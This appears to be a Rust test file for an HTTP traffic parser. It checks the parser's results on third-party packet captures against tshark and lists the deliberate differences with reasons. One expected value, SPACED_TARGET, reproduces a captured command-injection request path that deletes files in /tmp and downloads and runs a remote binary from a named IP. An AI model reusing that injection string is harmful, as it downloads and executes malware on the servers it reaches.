//! Third-party captures against what tshark makes of them.
//!
//! They are not part of this repository: the folder is `$PERISCO_CAPTURES`, or
//! `../shared/captures` beside the checkout. Without it the test says so and
//! passes, except in CI.
//!
//! Compared are, per connection, the ordered lists of HTTP/1 requests and of
//! responses (not the pairs, which tshark gets wrong with pipelining), the
//! HTTP/2 streams and the WebSocket frames. [`DIFFERENCES`] lists where
//! tshark is wrong or means something else, with the reason.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use common::{text_of, text_of_index, transactions_of};
use serde_json::{Value, json};

/// Captures in which our result differs from tshark's on purpose: name
/// (the end of its path), what is compared, and why we differ. The expected
/// value in the last column is ours, so that it stays tested.
const DIFFERENCES: &[Difference] = &[
    Difference {
        capture: "tests__alert-max__alert-max-append-higher-priority__input.pcap",
        key: "requests 5.6.7.8:6666 1.2.3.4:63",
        ours: r#"[["GET","/index.html","http/1.0","www.openinfosecfoundation.org"]]"#,
        reason: "tshark knows HTTP by its port, and 63 is not one; the bytes are a request",
    },
    Difference {
        capture: "tests__bug-5437-02__input.pcap",
        key: "requests 41.108.52.138:54520 126.203.57.64:80",
        ours: SPACED_TARGET,
        reason: SPACED_TARGET_REASON,
    },
    Difference {
        capture: "tests__bug-5437-02__input.pcap",
        key: "requests 41.108.52.138:54520 40.110.35.23:80",
        ours: SPACED_TARGET,
        reason: SPACED_TARGET_REASON,
    },
    Difference {
        capture: "tests__http2-keywords2__input.pcap",
        key: "requests 10.9.0.2:58038 139.162.123.134:80",
        ours: "null",
        reason: UPGRADED_REASON,
    },
    Difference {
        capture: "tests__http2-keywords2__input.pcap",
        key: "responses 10.9.0.2:58038 139.162.123.134:80",
        ours: "null",
        reason: UPGRADED_REASON,
    },
    Difference {
        capture: "tests__http2-keywords2__input.pcap",
        key: "stream 1 10.9.0.2:58038 139.162.123.134:80",
        ours: r#"[["GET","nghttp2.org","/robots.txt",200,null]]"#,
        reason: UPGRADED_REASON,
    },
    Difference {
        capture: "tests__pcap__http2-nghttp2.pcap",
        key: "stream 13 10.89.85.15:49570 139.162.123.134:80",
        ours: r#"[["GET","nghttp2.org","/",200,null]]"#,
        reason: "tshark lists only the answer; the request is in the capture",
    },
    Difference {
        capture: "test__afl_data__multi_packet_http_request.pcap",
        key: "requests 192.168.10.5:54842 172.82.206.1:80",
        ours: ANY,
        reason: CUT_HEAD_REASON,
    },
    Difference {
        capture: "test__afl_data__multi_packet_http_request_ua.pcap",
        key: "requests 192.168.10.14:53478 68.67.178.138:80",
        ours: ANY,
        reason: CUT_HEAD_REASON,
    },
    Difference {
        capture: "http__istio-tcp-frag.pcap",
        key: "responses 127.0.0.6:36493 10.233.64.230:9080",
        ours: "[200]",
        reason: CUT_HEAD_REASON,
    },
    Difference {
        capture: "http__grpc-segmented.pcap",
        key: "stream 1 10.0.226.225:41242 10.1.192.207:20035",
        ours: r#"[["POST","192.168.199.215:30035","/agent.Synchronizer/Push",null,null]]"#,
        reason: "tshark does not know HTTP/2 on this port without the preface",
    },
    Difference {
        capture: "mixed-vlan-mpls.pcap",
        key: "requests 10.20.80.1:50343 10.0.0.15:80",
        ours: "null",
        reason: "the request is `GET /` without a version, HTTP/0.9, which is not decoded; its \
                 answer has no head, and neither tshark nor we list one",
    },
    Difference {
        capture: "zeek-image-post-1080-8000-x.pcap",
        key: "requests 127.0.0.1:1080 44.1.1.1:8000",
        ours: r#"[["POST","/","http/1.1","localhost:8000"]]"#,
        reason: SOCKS_PORT_REASON,
    },
    Difference {
        capture: "zeek-image-post-1080-8000-x.pcap",
        key: "responses 127.0.0.1:1080 44.1.1.1:8000",
        ours: "[200]",
        reason: SOCKS_PORT_REASON,
    },
    Difference {
        capture: "websocket__oversized-close-frame.pcapng",
        key: "websocket 8 10.0.0.1:40081 10.0.0.2:80",
        ours: "null",
        reason: "a control frame of over 125 bytes is none (RFC 6455 section 5.5): it is \
                 reported as the anomaly bad-websocket-frame, not counted as a frame",
    },
];

/// Stands for any result of ours: too long to be repeated here.
const ANY: &str = "\"*\"";

const SPACED_TARGET: &str = r#"[["GET","/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm","http/1.1","127.0.0.1:80"]]"#;
const SPACED_TARGET_REASON: &str = "the target holds a space: what follows the last one is the \
     version, as servers read it, and tshark takes a part of the target for the version";
const UPGRADED_REASON: &str = "the request that asked for h2c is stream 1 (RFC 7540 section 3.2), \
     and so one transaction here; tshark shows it as HTTP/1 with its 101 and again as a stream \
     without a request";
const CUT_HEAD_REASON: &str = "the capture ends inside the head, whose first line is there: we \
     show what was seen, labelled as truncated";
const SOCKS_PORT_REASON: &str = "tshark takes port 1080 for SOCKS; the bytes are HTTP";

struct Difference {
    /// End of the capture's path.
    capture: &'static str,
    /// Key of the comparison: "requests 1.2.3.4:5 6.7.8.9:80" or similar.
    key: &'static str,
    /// Our result as JSON.
    ours: &'static str,
    /// Why it is right.
    reason: &'static str,
}

fn folder() -> Option<PathBuf> {
    let beside = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/captures");
    let named = std::env::var_os("PERISCO_CAPTURES").map(PathBuf::from);
    let folder = named.unwrap_or(beside);
    folder.is_dir().then_some(folder)
}

/// The captures with their expected results, by path.
fn captures(folder: &Path) -> Vec<(PathBuf, Value)> {
    const END: &str = ".expected.json";
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("a readable folder") {
            let path = entry.expect("a folder entry").path();
            if path.is_dir() {
                folders.push(path);
            } else if let Some(capture) = path.to_string_lossy().strip_suffix(END) {
                let text = std::fs::read_to_string(&path).expect("readable");
                let value = serde_json::from_str(&text).expect("JSON");
                found.push((PathBuf::from(capture), value));
            }
        }
    }
    found.sort_by(|(a, _), (b, _)| a.cmp(b));
    found
}

/// What was found by key: lists of values in order.
type Findings = BTreeMap<String, Vec<Value>>;

fn add(findings: &mut Findings, key: String, value: Value) {
    findings.entry(key).or_default().push(value);
}

fn ends(value: &Value) -> String {
    format!("{} {}", without_brackets(&value["client"]), without_brackets(&value["server"]))
}

/// tshark's results have IPv6 addresses without brackets.
fn without_brackets(value: &Value) -> String {
    value.as_str().unwrap_or("?").replace(['[', ']'], "")
}

/// tshark's results in our terms.
fn expected(of: &Value) -> Findings {
    let mut findings = Findings::new();
    let list = |value: &Value| value.as_array().cloned().unwrap_or_default();
    let mut addresses = BTreeMap::new();
    for connection in list(&of["http1"]) {
        addresses.insert(connection["tcp_stream"].to_string(), ends(&connection));
        for request in list(&connection["requests"]) {
            let version = text_of(&request, "version").to_ascii_lowercase();
            let fields = json!([request["method"], request["target"], version, request["host"]]);
            add(&mut findings, format!("requests {}", ends(&connection)), fields);
        }
        for response in list(&connection["responses"]) {
            // Interim responses make no transaction here; 101 is final.
            let status = response["status"].as_u64().unwrap_or(0);
            if status == 101 || status >= 200 {
                add(&mut findings, format!("responses {}", ends(&connection)), json!(status));
            }
        }
    }
    let streams = list(&of["http2"]);
    for stream in streams.iter().filter(|stream| !stream["client"].is_null()) {
        // Pushed streams have client and server the other way round there.
        let (client, server) = match stream["pushed"] == true {
            true => (&stream["server"], &stream["client"]),
            false => (&stream["client"], &stream["server"]),
        };
        let ends = ends(&json!({ "client": client, "server": server }));
        addresses.insert(stream["tcp_stream"].to_string(), ends);
    }
    for stream in streams {
        let known = addresses.get(&stream["tcp_stream"].to_string()).cloned();
        let ends = known.unwrap_or_else(|| ends(&stream));
        let key = format!("stream {} {ends}", stream["stream_id"]);
        let status = list(&stream["status"]).last().cloned().unwrap_or(Value::Null);
        let grpc_status = match &stream["grpc_status"] {
            Value::Array(all) => all.last().cloned().unwrap_or(Value::Null),
            one => one.clone(),
        };
        let fields =
            json!([stream["method"], stream["authority"], stream["path"], status, grpc_status]);
        add(&mut findings, key, fields);
    }
    for (stream, counts) in of["websocket"].as_object().into_iter().flatten() {
        let ends = addresses.get(stream).cloned().unwrap_or_default();
        for (opcode, count) in counts.as_object().into_iter().flatten() {
            add(&mut findings, format!("websocket {opcode} {ends}"), count.clone());
        }
    }
    findings
}

const OPCODES: [(&str, &str); 6] = [
    ("0", "continuation"),
    ("1", "text"),
    ("2", "binary"),
    ("8", "close"),
    ("9", "ping"),
    ("10", "pong"),
];

fn version_of(transaction: &Value) -> &str {
    match text_of(transaction, "protocol") {
        // gRPC-Web over HTTP/1.
        "grpc" if transaction["stream"].is_null() => "http/1.1",
        protocol => protocol,
    }
}

/// Our results in the same terms.
fn found(transactions: &[Value]) -> Findings {
    let mut findings = Findings::new();
    let mut responses: Vec<(String, &Value)> = Vec::new();
    for transaction in transactions {
        let ends = ends(transaction);
        if transaction["stream"].is_u64() {
            let grpc_status = &transaction["grpc"]["status"];
            let fields = ["method", "authority", "path", "status"].map(|field| &transaction[field]);
            let key = format!("stream {} {ends}", transaction["stream"]);
            let [method, authority, path, status] = fields;
            add(&mut findings, key, json!([method, authority, path, status, grpc_status]));
            continue;
        }
        if !transaction["method"].is_null() {
            let headers = transaction["request_headers"].as_array();
            let is_host = |pair: &&Value| text_of_index(pair, 0).eq_ignore_ascii_case("host");
            let host = headers.and_then(|list| list.iter().find(is_host));
            let host = host.map_or(Value::Null, |pair| pair[1].clone());
            let fields =
                json!([transaction["method"], transaction["path"], version_of(transaction), host]);
            add(&mut findings, format!("requests {ends}"), fields);
        }
        if !transaction["status"].is_null() {
            responses.push((text_of(transaction, "response_start").to_owned(), transaction));
        }
        for (opcode, name) in OPCODES {
            let count = ["client", "server"]
                .map(|side| &transaction["attributes"][format!("websocket.{side}.{name}.frames")])
                .into_iter()
                .filter_map(Value::as_u64)
                .sum::<u64>();
            if count > 0 {
                add(&mut findings, format!("websocket {opcode} {ends}"), json!(count));
            }
        }
    }
    responses.sort_by(|(a, _), (b, _)| a.cmp(b));
    for (_, response) in responses {
        add(&mut findings, format!("responses {}", ends(response)), response["status"].clone());
    }
    findings
}

/// tshark shows fields with control and non-ASCII bytes escaped or replaced,
/// and without white space around: both sides are reduced to what is common.
fn reduced(value: &Value) -> Value {
    match value {
        Value::String(text) => {
            let plain: String =
                text.chars().filter(|c| c.is_ascii_graphic() || *c == ' ').collect();
            Value::String(plain.trim().to_owned())
        }
        Value::Array(list) => Value::Array(list.iter().map(reduced).collect()),
        other => other.clone(),
    }
}

fn problems(capture: &Path, of: &Value, used: &mut Vec<usize>) -> String {
    let transactions = transactions_of(capture);
    let (expected, mut found) = (expected(of), found(&transactions));
    let mut problems = String::new();
    if of["h1_headers_only"].as_array().is_some_and(|list| !list.is_empty()) {
        problems.push_str("  h1_headers_only is not empty: this test does not look at it yet\n");
    }
    let keys: std::collections::BTreeSet<_> =
        expected.keys().chain(found.keys()).cloned().collect();
    for key in keys {
        let theirs = expected.get(&key).map(|list| list.iter().map(reduced).collect::<Vec<_>>());
        let ours = found.remove(&key).map(|list| list.iter().map(reduced).collect::<Vec<_>>());
        if theirs == ours {
            continue;
        }
        let name = capture.to_string_lossy();
        let known =
            DIFFERENCES.iter().position(|known| name.ends_with(known.capture) && known.key == key);
        if let Some(index) = known {
            used.push(index);
            let meant: Value = serde_json::from_str(DIFFERENCES[index].ours).expect("JSON");
            if meant == json!(ours) || (DIFFERENCES[index].ours == ANY && ours.is_some()) {
                continue;
            }
            problems.push_str(&format!(
                "  listed as differing because {}\n",
                DIFFERENCES[index].reason
            ));
        }
        let show =
            |list: Option<Vec<Value>>| list.map_or("nothing".into(), |l| json!(l).to_string());
        problems.push_str(&format!(
            "  {key}\n    tshark {}\n    ours   {}\n",
            show(theirs),
            show(ours)
        ));
    }
    problems
}

#[test]
fn third_party_captures_are_as_expected() {
    let Some(folder) = folder() else {
        assert!(std::env::var_os("CI").is_none(), "third-party captures not found, but this is CI");
        println!("skipped: third-party captures not found (set PERISCO_CAPTURES)");
        eprintln!("skipped: third-party captures not found (set PERISCO_CAPTURES)");
        return;
    };
    let captures = captures(&folder);
    assert!(captures.len() >= 50, "only {} captures in {}", captures.len(), folder.display());
    let mut used = Vec::new();
    let mut failures = Vec::new();
    for (capture, of) in &captures {
        let problems = problems(capture, of, &mut used);
        if !problems.is_empty() {
            let name = capture.strip_prefix(&folder).unwrap_or(capture);
            failures.push(format!("── {}\n{problems}", name.display()));
        }
    }
    for (index, difference) in DIFFERENCES.iter().enumerate() {
        if !used.contains(&index) {
            failures.push(format!(
                "── {}: {}: listed as differing, but does not",
                difference.capture, difference.key
            ));
        }
    }
    let count = failures.len();
    assert!(failures.is_empty(), "{count} of {} fail\n{}", captures.len(), failures.join("\n"));
}
